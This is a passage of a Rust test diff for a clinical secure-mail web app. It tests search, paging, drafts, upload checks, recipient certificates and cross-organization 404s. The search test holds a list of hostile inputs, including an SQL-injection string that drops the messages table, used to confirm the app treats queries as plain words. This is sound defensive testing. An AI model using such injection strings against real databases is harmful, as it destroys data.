+            &[("action", "move"), ("folder", "inbox")],
+        )
+        .await;
+    assert_eq!(r.location(), format!("/mail/{}/trash", mb.id));
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "1 message moved to Inbox.");
+    assert_eq!(place(&app, m).await, at("inbox", false));
+    let page = ana.get(&format!("/mail/messages/{m}")).await;
+    assert_eq!(page.status, StatusCode::OK);
+    assert_eq!(place(&app, m).await, at("inbox", true));
+    let r = ana
+        .post(&format!("/mail/messages/{m}/act"), &[("action", "unread")])
+        .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "1 message marked unread.");
+    assert_eq!(count(&page.body, "inbox"), 1);
+    ana.post(&format!("/mail/messages/{m}/act"), &[("action", "archive")])
+        .await;
+    assert_eq!(place(&app, m).await, at("archive", false));
+    ana.post(&format!("/mail/messages/{m}/act"), &[("action", "trash")])
+        .await;
+    assert_eq!(place(&app, m).await, at("trash", false));
+    let r = ana
+        .post(&format!("/mail/messages/{m}/act"), &[("action", "explode")])
+        .await;
+    assert_eq!(r.status, StatusCode::BAD_REQUEST);
+    assert_eq!(place(&app, foreign).await, at("inbox", false));
+}
+
+// ---------------------------------------------------------------------------------
+// 3. search
+
+async fn search(b: &mut Browser, mailbox_id: i64, query: &[(&str, &str)]) -> Page {
+    let q = crate::helpers::serde_urlencode(query);
+    let page = b.get(&format!("/mail/{mailbox_id}/search?{q}")).await;
+    assert_eq!(page.status, StatusCode::OK, "{query:?}: {}", page.body);
+    page
+}
+
+fn day(date: &str) -> i64 {
+    directmail::clock::parse_date(date).unwrap() + 10 * 3600
+}
+
+#[tokio::test]
+async fn search_finds_by_any_field_date_and_folder_pages_and_survives_hostile_queries() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let me = "dr.ana@direct.lakeside.test";
+    let cardio = Mail::new(
+        "zoe@partner.example",
+        me,
+        "Cardiology consult",
+        "The echocardiogram shows mild regurgitation.",
+    )
+    .named("Zoë Whitfield")
+    .file("holter-tracing.pdf", pdf("Holter"));
+    let labs = Mail::new(
+        "marc@labs.example",
+        me,
+        "Lab results",
+        "Potassium normal. Meet at the café on Monday.",
+    )
+    .named("Marc Dubois")
+    .cc("front@direct.hillside.test");
+    let trashed = Mail::new(
+        "nurse@ward.example",
+        me,
+        "Ward note",
+        "Discharge summary enclosed.",
+    );
+    let archived = Mail::new(
+        "path@lab.example",
+        me,
+        "Pathology",
+        "Archived pathology note.",
+    );
+    let mut seed = vec![
+        (cardio, day("2024-03-05")),
+        (labs, day("2024-04-10")),
+        (trashed, day("2024-05-20")),
+        (archived, day("2024-06-01")),
+    ];
+    for i in 0..60 {
+        seed.push((
+            Mail::new(
+                "bulk@partner.example",
+                me,
+                &format!("Weekly census {i}"),
+                "Census batchword figures.",
+            ),
+            day("2025-01-01") + i,
+        ));
+    }
+    let ids = deliver_many(&app, mb.id, &seed).await;
+    let (cardio, labs, trashed, archived) = (ids[0], ids[1], ids[2], ids[3]);
+    let batch: Vec<i64> = ids[4..].to_vec();
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    act(&mut ana, mb.id, &[("action", "trash")], &[trashed]).await;
+    act(&mut ana, mb.id, &[("action", "archive")], &[archived]).await;
+
+    let found = |page: &Page| row_ids(&page.body);
+    let m = mb.id;
+    let none: Vec<i64> = Vec::new();
+    type Case<'a> = (&'a [(&'a str, &'a str)], Vec<i64>);
+    let cases: Vec<Case> = vec![
+        // a word of the body, the subject, the sender's name and address, a
+        // recipient, an attachment's name; words as prefixes, all required, any case
+        (&[("q", "regurgitation")], vec![cardio]),
+        (&[("q", "CARDIOLOGY")], vec![cardio]),
+        (&[("q", "Whitfield")], vec![cardio]),
+        (&[("q", "zoe@partner.example")], vec![cardio]),
+        (&[("from", "marc")], vec![labs]),
+        (&[("from", "Dubois")], vec![labs]),
+        (&[("to", "front")], vec![labs]),
+        (&[("q", "holter")], vec![cardio]),
+        (&[("q", "potass")], vec![labs]),
+        (&[("q", "echo mild")], vec![cardio]),
+        (&[("q", "echo potassium")], none.clone()),
+        // accented words match as written
+        (&[("q", "café")], vec![labs]),
+        (&[("q", "Zoë")], vec![cardio]),
+        // dates, inclusive, in UTC
+        (
+            &[("after", "2024-04-01"), ("before", "2024-04-10")],
+            vec![labs],
+        ),
+        (
+            &[("after", "2024-03-01"), ("before", "2024-06-30")],
+            vec![archived, labs, cardio],
+        ),
+        (&[("before", "2024-03-31")], vec![cardio]),
+        // every folder but Trash, unless one is asked for
+        (&[("q", "pathology")], vec![archived]),
+        (&[("q", "pathology"), ("folder", "archive")], vec![archived]),
+        (&[("q", "pathology"), ("folder", "inbox")], none.clone()),
+        (&[("q", "discharge")], none.clone()),
+        (&[("q", "discharge"), ("folder", "trash")], vec![trashed]),
+    ];
+    for (query, expected) in cases {
+        let page = search(&mut ana, m, query).await;
+        assert_eq!(found(&page), expected, "{query:?}");
+    }
+    let page = search(&mut ana, m, &[("q", "regurgitation")]).await;
+    assert!(page.body.contains("Cardiology consult") && page.body.contains("Zoë Whitfield"));
+    let page = search(&mut ana, m, &[("q", "nothingmatchesthis")]).await;
+    assert!(page.body.contains("No message matches this search."));
+
+    // more than a page of results: 50, then the rest, each once
+    let first = search(&mut ana, m, &[("q", "batchword")]).await;
+    let mut seen = found(&first);
+    assert_eq!(seen.len(), 50);
+    let next = older(&first.body).expect("an Older link");
+    assert!(
+        next.contains("q=batchword") && next.contains("page="),
+        "{next}"
+    );
+    let second = ana.get(&next).await;
+    assert_eq!(second.status, StatusCode::OK);
+    assert_eq!(found(&second).len(), 10);
+    assert!(older(&second.body).is_none());
+    seen.extend(found(&second));
+    let mut expected = batch.clone();
+    expected.sort_unstable_by(|a, b| b.cmp(a));
+    assert_eq!(seen, expected, "newest first, no duplicates, none missing");
+
+    // what people type, and what attackers type, is only ever words
+    for hostile in [
+        "\"",
+        "\"unbalanced",
+        "*",
+        "census*",
+        "OR",
+        "census OR pathology",
+        "NEAR(census pathology)",
+        "NOT census",
+        "'; drop table messages; --",
+        "\\",
+        "%",
+        "_",
+        "(",
+        "sender:census",
+        "^census",
+        "-census",
+        "a & b | !c",
+        "':*",
+        "😀",
+    ] {
+        for key in ["q", "from", "to"] {
+            let page = search(&mut ana, m, &[(key, hostile)]).await;
+            assert!(page.body.contains("Search"), "{key}={hostile}");
+        }
+    }
+    let page = search(
+        &mut ana,
+        m,
+        &[("q", "\"census\" figures*"), ("after", "not-a-date")],
+    )
+    .await;
+    assert_eq!(
+        found(&page).len(),
+        50,
+        "punctuation is ignored, words still match"
+    );
+    assert_eq!(
+        found(&search(&mut ana, m, &[("q", "regurgitation")]).await),
+        vec![cardio]
+    );
+}
+
+// ---------------------------------------------------------------------------------
+// 4. paging and polling
+
+#[tokio::test]
+async fn a_long_folder_pages_by_fifty_and_polling_brings_only_new_mail() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let now = app.now();
+    let seed: Vec<(Mail, i64)> = (0..120)
+        .map(|i| {
+            (
+                Mail::new(
+                    "lab@partner.example",
+                    "dr.ana@direct.lakeside.test",
+                    &format!("Result number {i}"),
+                    "Values.",
+                ),
+                now,
+            )
+        })
+        .collect();
+    let ids = deliver_many(&app, mb.id, &seed).await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+
+    let inbox = format!("/mail/{}/inbox", mb.id);
+    let first = ana.get(&inbox).await;
+    let mut seen = row_ids(&first.body);
+    assert_eq!(seen.len(), 50);
+    assert_eq!(count(&first.body, "inbox"), 120);
+    let newest = *ids.last().unwrap();
+    assert_eq!(seen[0], newest);
+    assert!(first.body.contains(&format!("/inbox/new?after={newest}")));
+    let second = ana.get(&older(&first.body).expect("Older")).await;
+    assert_eq!(row_ids(&second.body).len(), 50);
+    assert!(
+        !second.body.contains("id=\"poller\""),
+        "only the first page polls"
+    );
+    seen.extend(row_ids(&second.body));
+    let third = ana.get(&older(&second.body).expect("Older")).await;
+    assert_eq!(row_ids(&third.body).len(), 20);
+    assert!(
+        older(&third.body).is_none(),
+        "no Older link on the last page"
+    );
+    seen.extend(row_ids(&third.body));
+    let mut expected = ids.clone();
+    expected.reverse();
+    assert_eq!(seen, expected, "every message once, newest first");
+
+    // polling: nothing new, then the new message and the new counts
+    let poll = format!("/mail/{}/inbox/new?after={newest}", mb.id);
+    let quiet = ana.get(&poll).await;
+    assert_eq!(quiet.status, StatusCode::OK);
+    assert!(!quiet.body.contains("<tr"), "{}", quiet.body);
+    assert!(quiet.body.contains(&format!("new?after={newest}")));
+    assert_eq!(count(&quiet.body, "inbox"), 120);
+    let fresh = deliver(
+        &app,
+        mb.id,
+        &Mail::new(
+            "er@partner.example",
+            "dr.ana@direct.lakeside.test",
+            "Urgent admission",
+            "Patient admitted overnight.",
+        ),
+    )
+    .await;
+    let news = ana.get(&poll).await;
+    assert_eq!(row_ids(&news.body), vec![fresh]);
+    assert!(news.body.contains("Urgent admission"));
+    assert!(news.body.contains("afterbegin:#rows"));
+    assert!(news.body.contains(&format!("new?after={fresh}")));
+    assert_eq!(count(&news.body, "inbox"), 121);
+    let again = ana
+        .get(&format!("/mail/{}/inbox/new?after={fresh}", mb.id))
+        .await;
+    assert!(row_ids(&again.body).is_empty());
+    // other folders poll on their own
+    let archive = ana
+        .get(&format!("/mail/{}/archive/new?after=0", mb.id))
+        .await;
+    assert_eq!(archive.status, StatusCode::OK);
+    assert!(row_ids(&archive.body).is_empty());
+    assert_eq!(
+        ana.get(&format!("/mail/{}/nosuch/new?after=0", mb.id))
+            .await
+            .status,
+        StatusCode::NOT_FOUND
+    );
+}
+
+// ---------------------------------------------------------------------------------
+// 5. drafts
+
+#[tokio::test]
+async fn a_draft_is_saved_as_typed_survives_sign_out_and_is_private_to_its_writer() {
+    let app = TestApp::spawn().await;
+    let org = app.org("Lakeside Clinic", "direct.lakeside.test").await;
+    let ana_user = app
+        .user(Some(&org), "ana@direct.lakeside.test", Role::Member)
+        .await;
+    let ben_user = app
+        .user(Some(&org), "ben@direct.lakeside.test", Role::Member)
+        .await;
+    let shared = mailbox(
+        &app,
+        org.id,
+        "direct.lakeside.test",
+        "referrals@direct.lakeside.test",
+        MailboxKind::Shared,
+    )
+    .await;
+    assign(&app, shared.id, ana_user.id).await;
+    assign(&app, shared.id, ben_user.id).await;
+
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let id = compose(&mut ana, shared.id).await;
+    let path = format!("/mail/drafts/{id}");
+    let typed = [
+        (
+            "to",
+            "front@direct.hillside.test, Dr Lee <lee@direct.hillside.test>",
+        ),
+        ("cc", "nurse@direct.hillside.test"),
+        ("subject", "Referral: knee pain & swelling"),
+        (
+            "body",
+            "Dear colleague,\n\nplease see <Mr. Okafor> this week.\n\nAna",
+        ),
+    ];
+    let saved = ana.post_with(&path, &typed, &[("x-autosave", "1")]).await;
+    assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);
+    assert!(saved.body.starts_with("Saved "), "{}", saved.body);
+    assert!(saved.body.contains("UTC"));
+    let file = pdf("Knee X ray report");
+    let up = ana
+        .upload(
+            &format!("{path}/attachments"),
+            &[("xray.pdf", "application/pdf", &file)],
+            true,
+        )
+        .await;
+    assert_eq!(up.status, StatusCode::OK, "{}", up.body);
+    let attachment = drafts::attachments(&app.state.db, id).await.unwrap()[0].id;
+
+    // the session ends; the draft does not
+    let out = ana.post("/logout", &[]).await;
+    assert_eq!(out.status, StatusCode::SEE_OTHER);
+    let gone = ana.get(&path).await;
+    assert_eq!(gone.status, StatusCode::SEE_OTHER);
+    assert!(gone.location().starts_with("/login"), "{}", gone.location());
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let page = ana.get(&path).await;
+    assert_eq!(page.status, StatusCode::OK);
+    for (name, value) in typed {
+        assert_eq!(field(&page, name), value, "{name}");
+    }
+    assert!(page.body.contains("xray.pdf"));
+    let (status, _, bytes) = get_bytes(&ana, &format!("{path}/attachments/{attachment}")).await;
+    assert_eq!((status, bytes), (StatusCode::OK, file.clone()));
+    let drafts_page = ana.get(&format!("/mail/{}/drafts", shared.id)).await;
+    assert!(drafts_page.body.contains(&format!("href=\"{path}\"")));
+    assert!(unescape(&drafts_page.body).contains("Referral: knee pain & swelling"));
+    assert!(drafts_page.body.contains("front@direct.hillside.test"));
+    assert_eq!(count(&drafts_page.body, "drafts"), 1);
+
+    // the page's last save as it closes (a beacon: the token in the form)
+    let beacon = ana
+        .post(
+            &format!("{path}?beacon=1"),
+            &[
+                ("to", typed[0].1),
+                ("cc", typed[1].1),
+                ("subject", typed[2].1),
+                (
+                    "body",
+                    "Dear colleague,\n\nplease see Mr. Okafor this week.\n\nAna",
+                ),
+            ],
+        )
+        .await;
+    assert_eq!(beacon.status, StatusCode::OK);
+    assert!(beacon.body.starts_with("Saved "));
+    let kept = "Dear colleague,\n\nplease see Mr. Okafor this week.\n\nAna";
+    assert_eq!(
+        drafts::get(&app.state.db, id).await.unwrap().unwrap().body,
+        kept
+    );
+
+    // a colleague sharing the mailbox sees none of it
+    let mut ben = app.signed_in("ben@direct.lakeside.test").await;
+    assert_eq!(ben.get(&path).await.status, StatusCode::NOT_FOUND);
+    assert_eq!(
+        ben.get(&format!("{path}/attachments/{attachment}"))
+            .await
+            .status,
+        StatusCode::NOT_FOUND
+    );
+    let not_his = [
+        ("to", "x@direct.hillside.test"),
+        ("subject", "hijack"),
+        ("body", ""),
+    ];
+    assert_eq!(
+        ben.post(&path, &not_his).await.status,
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        ben.post_with(&path, &not_his, &[("x-autosave", "1")])
+            .await
+            .status,
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        ben.post(&format!("{path}/send"), &not_his).await.status,
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        ben.upload(
+            &format!("{path}/attachments"),
+            &[("x.pdf", "application/pdf", &file)],
+            true
+        )
+        .await
+        .status,
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        ben.post(&format!("{path}/attachments/{attachment}/delete"), &[])
+            .await
+            .status,
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        ben.post(&format!("{path}/delete"), &[]).await.status,
+        StatusCode::NOT_FOUND
+    );
+    let his = ben.get(&format!("/mail/{}/drafts", shared.id)).await;
+    assert_eq!(his.status, StatusCode::OK);
+    assert!(!his.body.contains(&path) && !his.body.contains("knee pain"));
+    assert_eq!(count(&his.body, "drafts"), 0);
+    let still = drafts::get(&app.state.db, id).await.unwrap().unwrap();
+    assert_eq!(
+        (still.subject.as_str(), still.body.as_str()),
+        (typed[2].1, kept)
+    );
+    assert_eq!(
+        drafts::attachments(&app.state.db, id).await.unwrap().len(),
+        1
+    );
+
+    // a text over 60 KB is refused, saying so, and the saved text stays
+    let long = "x".repeat(61 * 1024);
+    let too_long = [
+        ("to", typed[0].1),
+        ("cc", ""),
+        ("subject", "long"),
+        ("body", &long),
+    ];
+    let refused = ana
+        .post_with(&path, &too_long, &[("x-autosave", "1")])
+        .await;
+    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
+    assert!(
+        refused.body.contains(
+            "The text is longer than a message may be here (60 KB); attach a document instead."
+        ),
+        "{}",
+        refused.body
+    );
+    let refused = ana.post(&path, &too_long).await;
+    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
+    assert!(refused.body.contains("60 KB"));
+    let page = ana.get(&path).await;
+    assert_eq!(field(&page, "body"), kept);
+    assert_eq!(field(&page, "subject"), typed[2].1);
+
+    // a plain "Save draft" comes back to the draft
+    let r = ana.post(&path, &typed).await;
+    assert_eq!(r.location(), path);
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "Draft saved.");
+
+    // removing the attachment, then discarding the draft
+    let r = ana
+        .post(&format!("{path}/attachments/{attachment}/delete"), &[])
+        .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "Attachment removed.");
+    assert!(!page.body.contains("xray.pdf"));
+    let r = ana.post(&format!("{path}/delete"), &[]).await;
+    assert_eq!(r.location(), format!("/mail/{}/drafts", shared.id));
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "Draft discarded.");
+    assert!(page.body.contains("No drafts."));
+    assert!(drafts::get(&app.state.db, id).await.unwrap().is_none());
+    assert_eq!(ana.get(&path).await.status, StatusCode::NOT_FOUND);
+}
+
+// ---------------------------------------------------------------------------------
+// 6. uploads
+
+#[tokio::test]
+async fn uploads_that_are_not_allowed_are_refused_with_the_file_named_and_the_reason() {
+    let app = TestApp::spawn_with(|config| {
+        config.max_message_mb = 1;
+        config.attachment_types.0.clear();
+    })
+    .await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let id = compose(&mut ana, mb.id).await;
+    let page = ana.get(&format!("/mail/drafts/{id}")).await;
+    assert!(
+        page.body.contains("up to 1 MB per message"),
+        "the limit is stated"
+    );
+    let upload = format!("/mail/drafts/{id}/attachments");
+    let first = pdf("First page");
+    let ok = ana
+        .upload(&upload, &[("first.pdf", "application/pdf", &first)], true)
+        .await;
+    assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
+    let names = |app: &TestApp| {
+        let db = app.state.db.clone();
+        async move {
+            drafts::attachments(&db, id)
+                .await
+                .unwrap()
+                .into_iter()
+                .map(|a| a.name)
+                .collect::<Vec<_>>()
+        }
+    };
+
+    let refusal = |page: &Page| {
+        Regex::new(r#"(?s)<div class="banner warn" role="alert" id="upload-refused">(.*?)</div>"#)
+            .unwrap()
+            .captures(&page.body)
+            .map(|c| unescape(&c[1]))
+            .unwrap_or_else(|| panic!("no refusal in {}", page.body))
+    };
+
+    // a Windows program renamed .pdf
+    let exe = windows_program();
+    let r = ana
+        .upload(&upload, &[("setup.pdf", "application/pdf", &exe)], true)
+        .await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
+    let why = refusal(&r);
+    assert!(
+        why.contains("“setup.pdf”") && why.contains("not a PDF"),
+        "{why}"
+    );
+    assert!(
+        r.body.contains("first.pdf"),
+        "the list still shows what is attached"
+    );
+
+    // over the per-message limit (1 MB); what was attached stays
+    let mut big = pdf("Big scan");
+    big.resize(1024 * 1024 + 10, b' ');
+    let r = ana
+        .upload(&upload, &[("scan.pdf", "application/pdf", &big)], true)
+        .await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
+    let why = refusal(&r);
+    assert!(
+        why.contains("“scan.pdf”") && why.contains("too large"),
+        "{why}"
+    );
+    assert!(r.body.contains("first.pdf"));
+
+    // a type the operator has not allowed (only PDF is)
+    let xml = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>Summary</title></ClinicalDocument>\n";
+    let r = ana
+        .upload(&upload, &[("record.xml", "text/xml", xml)], true)
+        .await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
+    let why = refusal(&r);
+    assert!(why.contains("“record.xml”") && why.contains("PDF"), "{why}");
+
+    // several at once: the good one is kept, the bad one named
+    let second = pdf("Second page");
+    let r = ana
+        .upload(
+            &upload,
+            &[
+                ("second.pdf", "application/pdf", &second),
+                ("tool.exe", "application/octet-stream", &exe),
+            ],
+            true,
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(refusal(&r).contains("“tool.exe”"));
+    assert!(r.body.contains("second.pdf"));
+    assert_eq!(names(&app).await, vec!["first.pdf", "second.pdf"]);
+
+    // without the page's script: the refusal comes back on the draft page
+    let r = ana
+        .upload(&upload, &[("setup.pdf", "application/pdf", &exe)], false)
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
+    assert_eq!(r.location(), format!("/mail/drafts/{id}"));
+    let page = follow(&mut ana, r).await;
+    let said = flash(&page.body);
+    assert!(
+        said.contains("“setup.pdf”") && said.contains("not a PDF"),
+        "{said}"
+    );
+    assert!(page.body.contains("first.pdf") && page.body.contains("second.pdf"));
+    let third = pdf("Third page");
+    let r = ana
+        .upload(&upload, &[("third.pdf", "application/pdf", &third)], false)
+        .await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "Attached: third.pdf.");
+    assert_eq!(
+        names(&app).await,
+        vec!["first.pdf", "second.pdf", "third.pdf"]
+    );
+}
+
+// ---------------------------------------------------------------------------------
+// 7. recipients
+
+#[tokio::test]
+async fn each_recipient_is_checked_and_an_unknown_one_stops_the_send_keeping_the_draft() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    desk(
+        &app,
+        "Hillside Care",
+        "direct.hillside.test",
+        "kim@direct.hillside.test",
+        "front@direct.hillside.test",
+    )
+    .await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let check = |address: &str| {
+        format!(
+            "/mail/check-address?{}",
+            crate::helpers::serde_urlencode(&[("address", address)])
+        )
+    };
+    let answer = async |b: &mut Browser, address: &str| -> (bool, String) {
+        let page = b.get(&check(address)).await;
+        assert_eq!(page.status, StatusCode::OK, "{}", page.body);
+        let v: serde_json::Value = serde_json::from_str(&page.body).unwrap();
+        let note = v["note"].as_str().unwrap().to_owned();
+        assert!(!note.trim().is_empty(), "a reason for {address}");
+        (v["ok"].as_bool().unwrap(), note)
+    };
+    let (ok, note) = answer(&mut ana, "dr.lee.example.org").await;
+    assert!(!ok);
+    assert!(note.contains("is not a valid address"), "{note}");
+    let (ok, note) = answer(&mut ana, "nobody@direct.hillside.test").await;
+    assert!(!ok);
+    assert_eq!(
+        note,
+        "there is no mailbox nobody@direct.hillside.test on this HISP"
+    );
+    let (ok, note) = answer(&mut ana, "front@direct.hillside.test").await;
+    assert!(ok);
+    assert_eq!(note, "on this HISP");
+    let (ok, note) = answer(&mut ana, "Dr Lee <FRONT@direct.hillside.test>").await;
+    assert!(ok, "{note}");
+    let (ok, note) = answer(&mut ana, "dr.who@elsewhere.example").await;
+    assert!(!ok);
+    assert!(
+        note.contains("no certificate was found for dr.who@elsewhere.example"),
+        "{note}"
+    );
+
+    // the address book offers this HISP's mailboxes
+    let s = ana.get("/mail/suggest?q=front").await;
+    let list: serde_json::Value = serde_json::from_str(&s.body).unwrap();
+    assert!(
+        list.as_array()
+            .unwrap()
+            .iter()
+            .any(|s| s["address"] == "front@direct.hillside.test"),
+        "{list}"
+    );
+
+    // sending to an address without a certificate: refused, named, nothing lost
+    let id = compose(&mut ana, mb.id).await;
+    let fields = [
+        ("to", "front@direct.hillside.test, dr.who@elsewhere.example"),
+        ("cc", ""),
+        ("subject", "Follow-up visit"),
+        ("body", "Please book a follow-up visit in two weeks."),
+    ];
+    let r = ana.post(&format!("/mail/drafts/{id}/send"), &fields).await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
+    let text = unescape(&r.body);
+    assert!(text.contains("Nothing was sent"), "{text}");
+    assert!(
+        text.contains(
+            "dr.who@elsewhere.example: no certificate was found for dr.who@elsewhere.example"
+        ),
+        "{text}"
+    );
+    assert!(
+        text.contains("front@direct.hillside.test — on this HISP"),
+        "{text}"
+    );
+    assert_eq!(field(&r, "subject"), "Follow-up visit");
+    assert_eq!(
+        field(&r, "body"),
+        "Please book a follow-up visit in two weeks."
+    );
+    let kept = drafts::get(&app.state.db, id).await.unwrap().expect("kept");
+    assert_eq!(kept.body, "Please book a follow-up visit in two weeks.");
+    assert_eq!(kept.to, fields[0].1);
+    let queued: i64 = sqlx::query_scalar("select count(*) from outbound_messages")
+        .fetch_one(&app.state.db.pool)
+        .await
+        .unwrap();
+    assert_eq!(queued, 0, "nothing was sent");
+    assert!(
+        inbound::messages_in(&app.state.db, mb.id, "sent", 10)
+            .await
+            .unwrap()
+            .is_empty()
+    );
+    let page = ana.get(&format!("/mail/drafts/{id}")).await;
+    assert_eq!(
+        field(&page, "body"),
+        "Please book a follow-up visit in two weeks."
+    );
+
+    // and without any recipient
+    let r = ana
+        .post(
+            &format!("/mail/drafts/{id}/send"),
+            &[("to", ""), ("subject", "x"), ("body", "y")],
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(r.body.contains("Add at least one recipient in To."));
+    assert!(drafts::get(&app.state.db, id).await.unwrap().is_some());
+}
+
+// ---------------------------------------------------------------------------------
+// 8. nobody else's mail
+
+#[tokio::test]
+async fn another_organizations_member_gets_404_on_every_mail_route_and_forged_posts_change_nothing()
+{
+    let app = TestApp::spawn().await;
+    let ana_box = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let kim_box = desk(
+        &app,
+        "Hillside Care",
+        "direct.hillside.test",
+        "kim@direct.hillside.test",
+        "front@direct.hillside.test",
+    )
+    .await;
+    let kb = kim_box.id;
+    let secret = Mail::new(
+        "lab@partner.example",
+        "front@direct.hillside.test",
+        "Confidential biopsy",
+        "",
+    )
+    .html("<p>Biopsy <b>result</b></p>")
+    .file("biopsy.pdf", pdf("Biopsy"));
+    let km = deliver(&app, kb, &secret).await;
+    let binned = deliver(
+        &app,
+        kb,
+        &Mail::new(
+            "lab@partner.example",
+            "front@direct.hillside.test",
+            "Binned",
+            "x",
+        ),
+    )
+    .await;
+    let mut kim = app.signed_in("kim@direct.hillside.test").await;
+    act(&mut kim, kb, &[("action", "trash")], &[binned]).await;
+    let r = kim
+        .post(&format!("/mail/{kb}/folders"), &[("name", "Pathology")])
+        .await;
+    let kf = r.location().rsplit('/').next().unwrap().to_owned();
+    let kd = compose(&mut kim, kb).await;
+    let kim_text = [
+        ("to", "lab@partner.example"),
+        ("cc", ""),
+        ("subject", "Private draft"),
+        ("body", "Kim's words"),
+    ];
+    kim.post_with(
+        &format!("/mail/drafts/{kd}"),
+        &kim_text,
+        &[("x-autosave", "1")],
+    )
+    .await;
+    kim.upload(
+        &format!("/mail/drafts/{kd}/attachments"),
+        &[("notes.pdf", "application/pdf", &pdf("Notes"))],
+        true,
+    )
+    .await;
+    let ka = drafts::attachments(&app.state.db, kd).await.unwrap()[0].id;
+
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let gets = [
+        format!("/mail/{kb}/inbox"),
+        format!("/mail/{kb}/trash"),
+        format!("/mail/{kb}/drafts"),
+        format!("/mail/{kb}/{kf}"),
+        format!("/mail/{kb}/search?q=biopsy"),
+        format!("/mail/{kb}/inbox/new?after=0"),
+        format!("/mail/messages/{km}"),
+        format!("/mail/messages/{km}/body"),
+        format!("/mail/messages/{km}/print"),
+        format!("/mail/messages/{km}/attachments/0"),
+        format!("/mail/messages/{km}/attachments/0?inline=1"),
+        format!("/mail/drafts/{kd}"),
+        format!("/mail/drafts/{kd}/attachments/{ka}"),
+    ];
+    for path in &gets {
+        let page = ana.get(path).await;
+        assert_eq!(page.status, StatusCode::NOT_FOUND, "GET {path}");
+        assert!(
+            !page.body.contains("Biopsy") && !page.body.contains("Private draft"),
+            "GET {path} shows nothing of it"
+        );
+    }
+    let km_s = km.to_string();
+    let posts: Vec<(String, Vec<(&str, &str)>)> = vec![
+        (format!("/mail/{kb}/compose"), vec![]),
+        (
+            format!("/mail/{kb}/act"),
+            vec![("action", "trash"), ("id", km_s.as_str())],
+        ),
+        (format!("/mail/{kb}/undo"), vec![]),
+        (format!("/mail/{kb}/folders"), vec![("name", "Stolen")]),
+        (format!("/mail/{kb}/folders/{kf}/delete"), vec![]),
+        (format!("/mail/{kb}/trash/empty"), vec![]),
+        (
+            format!("/mail/messages/{km}/act"),
+            vec![("action", "reply")],
+        ),
+        (
+            format!("/mail/messages/{km}/act"),
+            vec![("action", "forward")],
+        ),
+        (
+            format!("/mail/messages/{km}/act"),
+            vec![("action", "trash")],
+        ),
+        (
+            format!("/mail/messages/{km}/act"),
+            vec![("action", "unread")],
+        ),
+        (format!("/mail/drafts/{kd}"), vec![("subject", "Hijacked")]),
+        (
+            format!("/mail/drafts/{kd}/send"),
+            vec![("to", "dr.ana@direct.lakeside.test")],
+        ),
+        (format!("/mail/drafts/{kd}/attachments/{ka}/delete"), vec![]),
+        (format!("/mail/drafts/{kd}/delete"), vec![]),
+    ];
+    for (path, fields) in &posts {
+        let page = ana.post(path, fields).await;
+        assert_eq!(page.status, StatusCode::NOT_FOUND, "POST {path}");
+    }
+    let autosave = ana
+        .post_with(
+            &format!("/mail/drafts/{kd}"),
+            &[("subject", "Hijacked")],
+            &[("x-autosave", "1")],
+        )
+        .await;
+    assert_eq!(autosave.status, StatusCode::NOT_FOUND);
+    for script in [true, false] {
+        let up = ana
+            .upload(
+                &format!("/mail/drafts/{kd}/attachments"),
+                &[("x.pdf", "application/pdf", &pdf("x"))],
+                script,
+            )
+            .await;
+        assert_eq!(
+            up.status,
+            StatusCode::NOT_FOUND,
+            "upload (script: {script})"
+        );
+    }
+    // her own mailbox's form with Kim's message in it moves nothing
+    act(&mut ana, ana_box.id, &[("action", "trash")], &[km]).await;
+    act(&mut ana, ana_box.id, &[("action", "read")], &[km]).await;
+
